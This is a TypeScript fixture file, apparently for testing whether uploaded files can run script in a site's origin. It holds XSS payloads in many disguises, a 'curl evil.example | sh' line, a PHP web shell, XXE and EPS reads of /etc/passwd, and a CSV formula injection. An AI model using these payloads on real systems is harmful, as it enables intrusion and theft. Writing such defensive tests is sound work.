import { gzipSync } from 'node:zlib'

/** The address that a payload requests when it runs; a request for it is the proof. */
export const CALL = '/ran-in-our-origin'

/** The actions of a payload: it requests an address, opens a dialog and changes the title. */
export const SCRIPT = `try{document.title='ran'}catch(e){};try{fetch('${CALL}')}catch(e){};try{importScripts('${CALL}')}catch(e){};try{alert(1)}catch(e){}`

export type Payload = {
  what: string
  /** Its extension when it is not disguised. */
  extension: string
  bytes: Buffer
}
const of = (what: string, extension: string, bytes: string | Buffer): Payload => ({
  what,
  extension,
  bytes: Buffer.from(bytes),
})
const hex = (digits: string, more = 400) => Buffer.concat([Buffer.from(digits, 'hex'), Buffer.alloc(more)])

const HTML = `<!doctype html><html><head><script>${SCRIPT}</script></head><body onload="${SCRIPT.replaceAll('"', "'")}">x</body></html>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`
const XML = '<?xml version="1.0"?>'
const XHTML = 'http://www.w3.org/1999/xhtml'

/** Payloads that run in a browser that recognises their real type. */
export const SCRIPTED: readonly Payload[] = [
  of('a page', 'html', HTML),
  of('a page after white space', 'htm', `\n\n\t ${HTML}`),
  of('a page with a byte order mark', 'html', `\ufeff${HTML}`),
  of('a page in UTF-16', 'html', Buffer.from(`\ufeff${HTML}`, 'utf16le')),
  of('a page in UTF-7', 'html', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  of('a page after a comment', 'html', `<!-- ${'-'.repeat(2000)} -->${HTML}`),
  of('a drawing with script', 'svg', SVG),
  of(
    'a drawing with an entity',
    'svg',
    `${XML}<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
  ),
  of('a compressed drawing', 'svgz', gzipSync(SVG)),
  of('an XHTML page', 'xhtml', `${XML}<html xmlns="${XHTML}"><script>${SCRIPT}</script></html>`),
  of(
    'an XML document with a style sheet',
    'xml',
    `${XML}<?xml-stylesheet type="text/xsl" href="#x"?><x xmlns:h="${XHTML}"><h:script>${SCRIPT}</h:script></x>`,
  ),
  of('a script', 'js', SCRIPT),
  of(
    'a saved page',
    'mhtml',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${HTML}\r\n--b--`,
  ),
  of('a shortcut', 'url', `[InternetShortcut]\r\nURL=javascript:${SCRIPT}`),
]

/** One of each kind of program, archive, medium and other document. */
export const OTHER_TYPES: readonly Payload[] = [
  of('a Windows program', 'exe', hex('4d5a90000300000004000000ffff0000')),
  of('a Linux program', 'elf', hex('7f454c46020101000000000000000000')),
  of('a Java class', 'class', hex('cafebabe00000034')),
  of('a shell script', 'sh', '#!/bin/sh\ncurl evil.example | sh\n'),
  of('a PHP page', 'php', '<?php system($_GET["c"]); ?>'),
  of('an archive', 'zip', hex('504b0304140000000000')),
  of('an empty archive', 'zip', hex('504b0506', 18)),
  of('a RAR archive', 'rar', hex('526172211a0700')),
  of('a GZIP archive', 'gz', gzipSync('x'.repeat(10_000))),
  of('a GIF', 'gif', Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64')),
  of('a GIF that is a script', 'gif', `GIF89a=1;${SCRIPT}`),
  of('a TIFF', 'tif', hex('49492a0008000000')),
  of('an AVIF', 'avif', hex('0000001c66747970617669660000000061766966')),
  of('a HEIC', 'heic', hex('0000001866747970686569630000000068656963')),
  of('an EPS', 'eps', '%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file'),
  of('a video', 'mp4', hex('00000018667479706d703432000000006d703432')),
  of('an RTF document', 'rtf', '{\\rtf1\\ansi{\\object\\objocx}}'),
  of('a table', 'csv', '=cmd|calc!A1,2\n'),
]
